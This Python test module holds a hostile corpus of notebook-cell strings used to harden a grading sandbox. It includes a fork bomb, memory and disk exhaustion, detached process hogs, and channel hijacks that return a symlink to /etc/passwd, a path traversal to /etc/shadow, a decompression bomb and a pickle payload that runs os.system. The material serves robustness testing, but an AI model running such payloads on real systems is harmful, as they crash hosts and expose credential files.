"""Attack code of the hostile corpus that breaks things: learner cells, as strings (see ``make_corpus.py``).

Crashes and hangs (infinite loops, a memory bomb, a fork bomb, huge output, exits, a segfault,
signals, an uninterruptible C loop), resource abuse that outlives the cell (files in shared
temporary folders, SysV IPC, forked memory hogs, fork chains, CPU hogs, a full disk) and abuse
of the answer channel (a hijacked ``serve()`` that returns oversized, malformed, symlinked,
pickled or lying results).  Each constant is the source of one answer cell (or an added cell);
``@NAME@`` placeholders are filled by :func:`make_corpus._sub`.  ``tests/test_hostile.py``
asserts that ``PWNED``-prefixed files never appear.
"""

from attacks_forgery import RAISE_Q1

# ------------------------------------------------------------------ crash & hang
INFINITE_LOOP = """def highest_price(applicants, min_members, prices):
    while True:  # hangs every call: each one hits the per-call timeout
        pass
"""
MEMORY_BOMB = """def policy_table(applicants, policies, *, min_members, min_active_share, seed=0):
    hog = []
    while True:  # grows until the address-space / cgroup memory limit says no
        hog.append(bytearray(10**8))
"""
FORK_BOMB = """import os, resource
# guard: never go off outside the grading sandbox (non-root, RLIMIT_NPROC small)
assert os.getuid() != 0 and 0 < resource.getrlimit(resource.RLIMIT_NPROC)[0] <= 256, "not sandboxed"
print("fork bomb armed, uid", os.getuid(), "nproc", resource.getrlimit(resource.RLIMIT_NPROC)[0])
while True:
    os.fork()
"""
HUGE_OUTPUT = "print('x' * 10**8)  # 100 MB of output in one message\n\n"
SYS_EXIT = "import sys\nsys.exit('bye')\n\n"
OS_EXIT = "import os\nos._exit(1)\n\n"
SEGFAULT = "import ctypes\nctypes.string_at(0)  # SIGSEGV in the kernel\n\n"
SIGKILL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n\n"
SYNTAX_ERROR = """def policy_table(applicants, policies, *, min_members, min_active_share, seed=0)
    return pd.DataFrame(  # missing colon and bracket
"""
SIGINT_LOOP = """import itertools, signal
signal.signal(signal.SIGINT, signal.SIG_IGN)  # (ipykernel restores its handler for every request)

def highest_price(applicants, min_members, prices):
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT})  # (another thread still takes it)
    return any(itertools.repeat(0))  # a C loop that never checks for signals: no interrupt gets in
"""

# ------------------------------------------------------------------ resources
TMP_FILES = """import ctypes, os, socket
_made = []
for _d in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/run", os.path.expanduser("~")):
    try:
        os.makedirs(_d, exist_ok=True)
        with open(os.path.join(_d, "shequn-hostile-pwned-left"), "w") as fh:
            fh.write("left behind")
        _made.append(_d)
    except OSError as exc:
        print(_d, type(exc).__name__)
_libc = ctypes.CDLL(None, use_errno=True)
_shm = _libc.shmget(0x5EC7E7, 16 * 2**20, 0o1666)        # IPC_CREAT | 0666: SysV shared memory
_sem = _libc.semget(0x5EC7E8, 4, 0o1666)                 # a semaphore set
_msg = _libc.msgget(0x5EC7E9, 0o1666)                    # a message queue
_abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
_abstract.bind("\\0shequn-hostile-pwned")                # an abstract unix socket, listening
_abstract.listen()
print("made files in", _made, "shm", _shm, "sem", _sem, "msg", _msg)
"""
FORKED_MEMORY = """import os, time
_CHILDREN, _MB = 4, 600

def _child(w):
    os.setsid()
    if os.fork():            # double fork: the holder is nobody's child
        os._exit(0)
    try:
        block = bytearray(_MB * 2**20)
        for i in range(0, len(block), 4096):
            block[i] = 1     # touch every page: resident, not just reserved
        os.write(w, b"1")
    except MemoryError:
        os.write(w, b"0")
    while True:
        time.sleep(3600)

_r, _w = os.pipe()
for _ in range(_CHILDREN):
    if os.fork() == 0:
        _child(_w)
    else:
        os.wait()
time.sleep(8)
os.set_blocking(_r, False)
try:
    _ok = os.read(_r, 100).count(b"1")
except BlockingIOError:
    _ok = 0
_alive = 0
for _pid in os.listdir("/proc"):
    if _pid.isdigit() and int(_pid) != os.getpid():
        try:
            _st = open(f"/proc/{_pid}/status").read()
        except OSError:
            continue
        _rss = [int(l.split()[1]) for l in _st.splitlines() if l.startswith("VmRSS:")]
        if _rss and _rss[0] > (_MB - 50) * 1024:
            _alive += 1
print(f"HELD {_alive * _MB} MB in {_alive} children ({_ok} allocated)")
"""
FORK_CHAIN = """import os, time
if os.fork() == 0:
    os.setsid()
    while True:                       # a new pid every 50 ms: a /proc sweep never catches it
        if os.fork():
            os._exit(0)
        time.sleep(0.05)
time.sleep(0.5)
print("fork chain running")
"""
CPU_HOGS = (
    """import os
for _ in range(16):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        while True:
            pass
    else:
        os.wait()
print("16 CPU hogs started")
"""
    + RAISE_Q1
)
DISK_FILL = """import os
_total, _chunk = 0, b"\\0" * 2**20
_dir = os.path.join(os.path.expanduser("~"), "fill")
os.makedirs(_dir, exist_ok=True)
try:
    for _i in range(64):                 # at most 64 x 8 MB = 512 MB: stop there whatever happens
        with open(os.path.join(_dir, f"f{_i}"), "wb") as fh:
            for _ in range(8):
                fh.write(_chunk)
                fh.flush()
                _total += 1
except OSError as exc:
    print("stopped:", type(exc).__name__)
print(f"WROTE {_total} MB")
"""

# ------------------------------------------------------------------ channel abuse
# A post_execute hook swaps the kernel half of the channel (installed after the learner's cells)
# for one that answers describe() honestly and every call with *_abuse(n)*.
HIJACK = """import json as _json, os as _os
_ip = get_ipython()

def _swap(*args):
    real = _ip.user_ns.get("__shequn_serve__")
    if real is None or getattr(real, "_fake", False):
        return
    def serve(n, _real=real):
        with open(f"/shequn/in/req-{n}.json") as fh:
            req = _json.load(fh)
        if req["op"] == "describe" and not DESCRIBE_TOO:
            return _real(n)
        _abuse(n, req)
    serve._fake = True
    _ip.user_ns["__shequn_serve__"] = serve

def _res(n, obj, files=()):
    with open(f"/shequn/out/res-{n}.json", "w") as fh:
        _json.dump({"ok": obj, "files": list(files)}, fh, allow_nan=True)

_ip.events.register("post_execute", _swap)
DESCRIBE_TOO = False

def highest_price(applicants, min_members, prices):
    return 50
"""
HUGE_RESULT = (
    HIJACK
    + """
def _abuse(n, req):
    with open(f"/shequn/out/res-{n}.json", "w") as fh:
        fh.write('{"ok": "' + "x" * (48 * 2**20) + '", "files": []}')
"""
)
SYMLINK_RESULT = (
    HIJACK
    + """
def _abuse(n, req):
    _os.symlink("/etc/passwd", f"/shequn/out/res-{n}.json")
"""
)
FIFO_RESULT = (
    HIJACK
    + """
def _abuse(n, req):
    _os.mkfifo(f"/shequn/out/res-{n}.json")         # an open() on it would block the grader
"""
)
MALFORMED_ARROW = (
    HIJACK
    + """
def _abuse(n, req):
    name = f"{n}-r0.arrow"
    with open(f"/shequn/out/{name}", "wb") as fh:
        fh.write(b"ARROW1\\0\\0" + _os.urandom(4096) + b"ARROW1")
    _res(n, {"t": "df", "f": name}, [name])
"""
)
PICKLED_NPY = (
    HIJACK
    + """
import numpy as _np

class _Evil:
    def __reduce__(self):
        return (_os.system, ("touch " + @PWNED@ + "-pickle",))

def _abuse(n, req):
    name = f"{n}-r0.npy"
    _np.save(f"/shequn/out/{name}", _np.array([_Evil()], dtype=object), allow_pickle=True)
    _res(n, {"t": "npy", "f": name}, [name])
"""
)
DEEP_NESTING = (
    HIJACK
    + """
def _abuse(n, req):
    depth = 200_000
    with open(f"/shequn/out/res-{n}.json", "w") as fh:
        fh.write('{"ok": ' + '{"t": "list", "v": [' * 40 + "1" + "]}" * 40 + ', "files": []}'
                 if n % 2 else '{"ok": ' + "[" * depth + "]" * depth + ', "files": []}')
"""
)
PATH_TRAVERSAL = (
    HIJACK
    + """
def _abuse(n, req):
    _res(n, {"t": "npy", "f": "../../../../etc/shadow"}, ["../../../../etc/shadow"])
"""
)
DESCRIBE_LIES = (
    HIJACK
    + """
DESCRIBE_TOO = True

def _abuse(n, req):
    if req["op"] == "describe":
        _res(n, {"highest_price": {"kind": "value", "value": 2**80},
                 "policy_table": {"kind": "value", "value": {"t": "pickle", "v": "gASV"}},
                 "my_policy": {"kind": "policy", "name": {"t": "dict"}, "fee": float("nan")}})
    else:
        _res(n, 50)
"""
)
ARROW_BOMB = (
    HIJACK
    + """
import pyarrow as _pa

def _abuse(n, req):
    # 256 MB of zeros in a 10 KB file (the ratio grows with the size: 60 MB could hold terabytes)
    name = f"{n}-r0.arrow"
    table = _pa.table({"x": _pa.array([b"\\0" * (64 * 2**20)] * 4, type=_pa.large_binary())})
    opts = _pa.ipc.IpcWriteOptions(compression="zstd")
    with _pa.OSFile(f"/shequn/out/{name}", "wb") as sink, _pa.ipc.new_file(sink, table.schema, options=opts) as w:
        w.write_table(table)
    _res(n, {"t": "df", "f": name}, [name])
"""  # noqa: E501 (hostile submission code, kept as written)
)
